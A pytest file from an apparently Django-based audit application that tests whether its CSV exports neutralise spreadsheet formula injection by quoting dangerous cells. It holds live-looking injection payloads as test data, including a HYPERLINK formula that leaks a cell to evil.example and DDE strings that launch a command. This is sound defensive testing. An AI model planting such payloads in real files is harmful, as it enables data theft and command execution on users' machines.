"""No CSV the site writes can start a spreadsheet formula (finding 5).

OWASP's rule: a text cell starting with = + - @ tab or carriage return gets a
leading single quote; numbers stay numbers. Each export is read back through
its real endpoint or command, with hostile text put where a client can put it.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, timedelta

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from auditapp.accounts import roles
from auditapp.accounts.services import create_user
from auditapp.csvcells import safe_cell
from auditapp.decisions.models import Decision
from auditapp.decisions.outcomes import record_outcomes
from auditapp.reports import services as report_services
from auditapp.reports.models import Report
from tests.conftest import PASSWORD
from tests.factories import DecisionPayloadFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Text fields that are not identifiers may also start with a tab or a carriage return.
FREE_TEXT_FORMULAS = [*FORMULAS, "\t=1+1", "\r=1+1"]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def cells(content: bytes) -> list[str]:
    return [cell for row in rows_of(content) for cell in row]


def assert_no_formula(content: bytes) -> None:
    """No cell of the file starts like a formula (quoted cells are text to a spreadsheet)."""
    for cell in cells(content):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), repr(cell)
        if cell.startswith("-"):  # a negative number is fine, text is not
            float(cell)


# --- the rule ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell_quotes_text_that_starts_like_a_formula_and_leaves_numbers(value, expected):
    assert safe_cell(value) == expected


# --- decision export (search page download) ----------------------------------------------


@pytest.fixture
def hostile_decisions(model_version, ingest) -> list[dict]:
    """Decisions whose request_id and subject_ref are formulas (identifiers allow them)."""
    payloads = [
        DecisionPayloadFactory(request_id=text, subject_ref=text, score=0.25) for text in FORMULAS
    ]
    ingest(*payloads)
    return payloads


@pytest.mark.parametrize("model", ["", "credit"], ids=["inputs_as_json", "one_column_per_feature"])
def test_the_decision_export_quotes_formulas(compliance_officer, hostile_decisions, model):
    browser = Client()
    browser.force_login(compliance_officer)

    response = browser.get("/decisions/export.csv", {"model": model} if model else {})

    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert_no_formula(content)
    header, *rows = rows_of(content)
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert sorted(r["request_id"] for r in by_column) == sorted("'" + f for f in FORMULAS)
    assert sorted(r["subject_ref"] for r in by_column) == sorted("'" + f for f in FORMULAS)
    assert {r["score"] for r in by_column} == {"0.25"}  # numbers are written as numbers


# --- labelled data export (API and page) -----------------------------------------------


@pytest.fixture
def labelled_hostile(hostile_decisions, ml_engineer) -> None:
    decisions = Decision.objects.filter(request_id__in=FORMULAS)
    record_outcomes(
        roles.Actor(user=ml_engineer),
        {
            "outcomes": [
                {"decision_id": d.pk, "outcome": "bad", "observed_at": timezone.now().isoformat()}
                for d in decisions
            ]
        },
    )


def test_the_labelled_data_csv_quotes_formulas(api_client, ml_engineer, labelled_hostile):
    response = api_client(ml_engineer).get(
        "/api/v1/models/credit/versions/1/labelled-data", {"format": "csv"}
    )

    assert response.status_code == 200
    assert_no_formula(response.content)
    header, *rows = rows_of(response.content)
    request_ids = [dict(zip(header, row, strict=True))["request_id"] for row in rows]
    assert sorted(request_ids) == sorted("'" + f for f in FORMULAS)


def test_the_labelled_data_page_download_quotes_formulas(ml_engineer, labelled_hostile):
    browser = Client()
    browser.force_login(ml_engineer)

    response = browser.get("/models/credit/versions/1/labelled.csv")

    assert response.status_code == 200
    assert_no_formula(response.content)


# --- the access log ------------------------------------------------------------------------


def test_the_access_log_csv_quotes_formulas(role_groups, compliance_officer):
    hostile = create_user("=cmd|' /C calc'!A0", roles.AUDITOR, password=PASSWORD)
    Client().login(username=hostile.username, password=PASSWORD)  # an event naming them
    browser = Client()
    browser.force_login(compliance_officer)

    response = browser.get("/audit/events.csv")

    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert_no_formula(content)
    assert "'=cmd|' /C calc'!A0" in cells(content)


# --- the compliance report ----------------------------------------------------------------


def test_the_compliance_csv_quotes_model_card_text_and_request_ids(
    register, ml_engineer, ingest, compliance_officer
):
    card = {
        "description": FREE_TEXT_FORMULAS[0],
        "intended_use": FREE_TEXT_FORMULAS[1],
        "limitations": FREE_TEXT_FORMULAS[4],
        "training_data": FREE_TEXT_FORMULAS[5],
        "metrics": {"auc": 0.81, "calibration_shift": -0.02},
    }
    register(ml_engineer, card=card)
    start = timezone.now().astimezone(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    ingest(
        DecisionPayloadFactory(
            request_id=FORMULAS[3], predicted_at=(start - timedelta(hours=2)).isoformat()
        )
    )
    body = {
        "kind": "model_compliance",
        "model": "credit",
        "version": "1",
        "from": (start - timedelta(days=1)).isoformat(),
        "to": (start + timedelta(days=1)).isoformat(),
        "format": "csv",
    }
    actor = roles.Actor(user=compliance_officer)
    report = report_services.generate_report(report_services.request_report(actor, body).pk)
    assert report.status == Report.DONE, report.error

    content = Client()
    content.force_login(compliance_officer)
    data = content.get(f"/reports/{report.pk}/download").content

    assert_no_formula(data)
    values = {(row[0], row[1]): row[2] for row in rows_of(data)[1:]}
    assert values[("model_identity", "purpose")] == "'" + FREE_TEXT_FORMULAS[0]
    assert values[("model_identity", "intended_use")] == "'" + FREE_TEXT_FORMULAS[1]
    assert values[("model_identity", "limitations")] == "'\t=1+1"
    assert values[("model_identity", "training_data")] == "'\r=1+1"
    assert values[("model_identity", "training_metrics.calibration_shift")] == "-0.02"
    assert "'" + FORMULAS[3] in values.values()


# --- import_decisions --rejects ------------------------------------------------------------


def test_the_rejects_file_of_an_import_quotes_formulas(model_version, tmp_path):
    rows = [DecisionPayloadFactory(request_id=text) for text in FORMULAS]
    for row in rows:
        row["inputs"]["age"] = 5  # below the schema's minimum: every row is rejected
    source = tmp_path / "decisions.jsonl"
    source.write_text("".join(json.dumps(row) + "\n" for row in rows))
    rejects = tmp_path / "rejects.csv"

    with pytest.raises(CommandError):
        call_command(
            "import_decisions",
            str(source),
            "--model",
            "credit",
            "--version",
            "1",
            "--no-progress",
            "--rejects",
            str(rejects),
            stdout=io.StringIO(),
        )

    content = rejects.read_bytes()
    assert_no_formula(content)
    _header, *found = rows_of(content)
    assert sorted(row[1] for row in found) == sorted("'" + f for f in FORMULAS)
